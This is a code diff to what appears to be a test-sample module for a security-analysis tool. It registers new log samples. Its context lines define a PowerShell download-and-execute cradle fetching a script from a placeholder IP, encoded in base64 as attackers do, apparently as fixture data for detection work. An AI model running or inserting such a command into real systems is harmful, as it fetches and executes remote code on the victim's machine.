@@ -25,6 +25,8 @@ from cybersecqwen.records import (
     Verdict,
 )
 
+from .samples_logs import logs, quiet_logs
+
 START = 1_772_442_847.25  # 2026-03-02 09:14:07.250 UTC
 SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/update/a.ps1')"
 ENCODED = base64.b64encode(SCRIPT.encode("utf-16-le")).decode()
@@ -793,5 +795,7 @@ SAMPLES = {
     "nameless": nameless,
     "answer": answer,
     "no-answer": no_answer,
+    "logs": logs,
+    "logs-quiet": quiet_logs,
 }
 """Name to builder."""
